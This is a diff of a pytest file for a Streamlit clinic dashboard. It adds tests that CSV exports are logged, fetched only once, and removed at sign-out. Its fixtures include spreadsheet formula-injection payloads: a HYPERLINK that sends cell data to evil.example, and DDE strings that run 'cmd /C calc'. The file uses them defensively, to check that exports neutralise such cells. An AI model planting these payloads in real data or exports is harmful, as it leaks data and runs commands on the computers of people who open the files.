@@ -3,16 +3,21 @@
 from __future__ import annotations
 
 import io
+from datetime import timedelta
 from pathlib import Path
 
 import pandas as pd
 import pytest
 import streamlit as st
 from sqlmodel import select
+from starlette.applications import Starlette
+from starlette.testclient import TestClient
 from streamlit.runtime.media_file_manager import MediaFileManager
+from streamlit.runtime.media_file_storage import MediaFileStorageError
 from streamlit.testing.v1 import AppTest
+from streamlit.web.server.starlette.starlette_routes import create_media_routes
 
-from ketadash.auth import AccessAction, log_access
+from ketadash.auth import AccessAction, log_access, read_access_log
 from ketadash.clock import utc_now
 from ketadash.db import write_session
 from ketadash.models import Site, Staff
@@ -25,6 +30,12 @@ HOSTILE_NAME = '=HYPERLINK("http://evil.example/?"&A2,"call")'
 HOSTILE_MRN = "-2+3+cmd|' /C calc'!A0"
 HOSTILE_SITE = "@SUM(1+1)*cmd|' /C calc'!A0"
 HOSTILE_LEAD = "+Lee Park"
+ONE_HOUR = timedelta(hours=1)
+
+
+# What a click on a download button asks the server, by file name: the media file
+# manager of the run that drew the button and the button's deferred file id.
+CLICKS: dict[str, tuple[MediaFileManager, str]] = {}
 
 
 @pytest.fixture
@@ -36,7 +47,9 @@ def downloads(monkeypatch) -> dict[str, object]:
 
     def recorded(self, data_callable, mimetype, coordinates, file_name=None, **kwargs):
         made[file_name] = data_callable
-        return original(self, data_callable, mimetype, coordinates, file_name, **kwargs)
+        file_id = original(self, data_callable, mimetype, coordinates, file_name, **kwargs)
+        CLICKS[file_name] = (self, file_id)
+        return file_id
 
     monkeypatch.setattr(MediaFileManager, "add_deferred", recorded)
     return made
@@ -101,3 +114,53 @@ def test_every_export_writes_formula_like_cells_as_text(hostile_clinic, download
     # Every other table of the screen goes through the same writer.
     for name in [n for n in downloads if not n.startswith(("visits_", "boosters-", "access-"))]:
         assert all(not c.startswith(("=", "+", "-", "@")) for c in _cells(_csv(downloads, name)))
+
+
+# --- a download is made at the click, logged, and fetched once -------------------------------
+
+
+def _click(file_name_start: str) -> tuple[TestClient, str]:
+    """What the browser does on a click: ask for the file, then fetch the address it gets;
+    returns a client of the server's /media route and that address."""
+    (name,) = [n for n in CLICKS if n.startswith(file_name_start)]
+    manager, file_id = CLICKS[name]
+    address = manager.execute_deferred(file_id)
+    server = Starlette(routes=create_media_routes(manager._storage, None))
+    return TestClient(server), address.replace("/mock/media", "/media")
+
+
+def _exports(url: str) -> int:
+    log = read_access_log(url=url, start=utc_now() - timedelta(hours=1), end=utc_now() + ONE_HOUR)
+    return int((log["action"] == AccessAction.EXPORT).sum())
+
+
+def test_an_export_is_fetched_once_and_every_download_is_logged(hostile_clinic, downloads):
+    CLICKS.clear()
+    _open("pages/boosters.py")
+    assert _exports(hostile_clinic) == 0, "drawing the button makes and logs nothing"
+    browser, address = _click("boosters-worklist")
+    assert _exports(hostile_clinic) == 1
+    fetched = browser.get(address)
+    assert fetched.status_code == 200
+    assert "'" + HOSTILE_MRN in fetched.text
+    # The same address again, with or without the lead's cookie: gone, and nothing unlogged.
+    assert browser.get(address).status_code == 404
+    assert browser.get(address, cookies={}).status_code == 404
+    # Downloading again is a new click: made again, logged again, fetched once again.
+    browser, again = _click("boosters-worklist")
+    assert _exports(hostile_clinic) == 2
+    assert browser.get(again).status_code == 200
+    assert browser.get(again).status_code == 404
+
+
+def test_signing_out_removes_an_export_not_yet_fetched(hostile_clinic, downloads):
+    CLICKS.clear()
+    at = _open("pages/boosters.py")
+    browser, address = _click("boosters-worklist")
+    manager, file_id = CLICKS[next(iter(CLICKS))]
+    next(b for b in at.sidebar.button if b.label == "Sign out").click().run()
+    assert browser.get(address).status_code == 404
+    # The button's own request, replayed after sign-out, makes nothing and logs nothing.
+    with pytest.raises(MediaFileStorageError):
+        manager.execute_deferred(file_id)
+    assert _exports(hostile_clinic) == 1
